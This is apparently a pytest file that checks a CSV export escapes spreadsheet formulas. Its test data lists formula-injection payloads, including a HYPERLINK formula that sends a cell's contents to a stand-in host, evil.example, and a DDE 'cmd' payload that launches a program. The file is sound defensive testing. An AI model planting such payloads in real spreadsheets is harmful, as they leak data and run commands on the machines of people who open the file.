"""What a stranger wrote is no formula in a spreadsheet."""

import csv
import io

import pytest

from service.review.csv_files import csv_text

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_would_compute_is_text(attack: str) -> None:
    text = csv_text(["who", "count"], [[attack, -1]])
    row = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert row == [f"'{attack}", "-1"]  # our own numbers stay numbers


def test_quotes_and_lines_stay_in_their_cell() -> None:
    said = 'a "quoted", and\nbroken line'
    text = csv_text(["what"], [[said]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["what"], [said]]
